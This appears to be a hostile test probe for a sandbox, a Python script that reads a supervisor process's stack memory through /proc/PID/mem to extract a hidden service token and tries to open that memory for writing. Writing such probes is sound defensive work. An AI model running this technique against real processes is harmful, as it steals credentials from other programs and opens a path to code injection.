"""Threat: open the supervisor's /proc/PID/mem, read its [stack] mapping
(where its environment, hidden tokens included, lives) and print what
follows "MY_SERVICE_TOKEN=".  Also try to open it for writing (code
injection); nothing is written.

Prints "supervisor=PID", "mem-read: ...", "found: ...", "mem-write: ...",
"probe: ERRNO".
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _hostile import find_supervisor, probe, report

DONE = 42
NEEDLE = b"MY_SERVICE_TOKEN="


def stack(pid):
    try:
        with open(f"/proc/{pid}/maps") as f:
            for line in f:
                if line.rstrip().endswith("[stack]"):
                    lo, hi = line.split()[0].split("-")
                    return int(lo, 16), int(hi, 16)
    except OSError:
        pass
    return None


def read_mem(pid):
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        where = stack(pid)
        if where is None:
            return "opened (no maps)"
        lo, hi = where
        data = os.pread(fd, hi - lo, lo)
        at = data.find(NEEDLE)
        if at >= 0:
            print("found:", data[at : at + 80].split(b"\0")[0].decode(errors="replace"))
        return f"{len(data)} bytes"
    finally:
        os.close(fd)


sup = find_supervisor()
print(f"supervisor={sup}", flush=True)
report("mem-read", lambda: read_mem(sup))
report("mem-write", lambda: os.close(os.open(f"/proc/{sup}/mem", os.O_RDWR)))
report("probe", probe)
sys.exit(DONE)
